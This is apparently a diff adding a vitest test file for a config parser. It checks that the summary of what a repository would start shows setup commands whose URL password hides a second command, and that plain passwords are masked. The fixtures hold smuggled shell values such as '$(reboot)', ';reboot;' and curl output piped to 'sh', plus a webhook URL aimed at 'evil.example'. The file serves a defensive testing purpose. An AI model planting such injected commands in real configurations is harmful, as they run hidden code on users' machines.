@@ -1,0 +1,35 @@
+/** What a repository would start is shown whole: nothing in it poses as a password to be left out. */
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, it } from 'vitest';
+import { loadDaemonConfig, parseRepoConfig } from '../../runtime/config/config.ts';
+
+function shown(text: string): string {
+  const home = mkdtempSync(join(tmpdir(), 'stator-'));
+  const source = { file: 'config.toml', text, kasmosFile: '', kasmosText: null, kasmosProblem: null };
+  const { enables } = parseRepoConfig(source, loadDaemonConfig(home));
+  rmSync(home, { recursive: true });
+  return enables.join('\n');
+}
+
+it.each([
+  'true https://x:$(reboot)@example.com',
+  'true https://x:`reboot`@example.com',
+  'true https://x;reboot;@example.com',
+  'true https://x:y|sh@example.com',
+  'curl example.com/a?token=|sh',
+  'curl example.com/a?token=$(reboot)',
+])('a setup is shown with the command that poses as a password: %s', (setup) => {
+  expect(shown(`[worktree]\nsetup = '${setup}'\n`)).toContain(setup);
+});
+
+it('a hook is shown with the host that it goes to, whatever stands after it', () => {
+  const url = 'https://evil.example:443/take@good.example';
+  expect(shown(`[[hooks]]\nname = "tell"\ntype = "webhook"\nurl = "${url}"\n`)).toContain('https://evil.example:443/');
+});
+
+it('a plain password is left out', () => {
+  const text = shown("[worktree]\nsetup = 'curl https://ada:s3cret!@example.com/a?token=abc-DEF_1%3D&b=1'\n");
+  expect(text).toContain('curl https://***@example.com/a?token=***&b=1');
+});
